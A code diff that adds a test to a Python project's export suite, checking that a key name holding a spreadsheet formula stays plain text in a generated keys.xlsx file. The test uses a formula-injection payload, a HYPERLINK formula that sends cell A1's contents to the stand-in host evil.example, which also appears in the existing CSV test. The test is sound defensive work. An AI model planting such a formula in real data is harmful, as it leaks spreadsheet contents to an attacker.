@@ -230,3 +230,18 @@ def test_text_that_a_spreadsheet_would_run_is_not_a_formula_in_the_csv_files(
     row = next(row for row in rows if int(row["id"]) == key.pk)
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
     assert all(not value.startswith("=") for row in rows for value in row.values())
+
+
+def test_text_that_a_spreadsheet_would_run_stays_text_in_keys_xlsx(grc_user, inventory, signing_key, fake_pdf):
+    from openpyxl import load_workbook
+
+    key = inventory["keys"][0]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    type(key).objects.filter(pk=key.pk).update(name=formula)
+    built = build(grc_user)
+    sheet = load_workbook(io.BytesIO(members(zip_bytes(built))["keys.xlsx"]))["keys"]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == key.pk)
+    name = row[header.index("name")]
+    assert name.value == formula and name.data_type == "s"
+    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
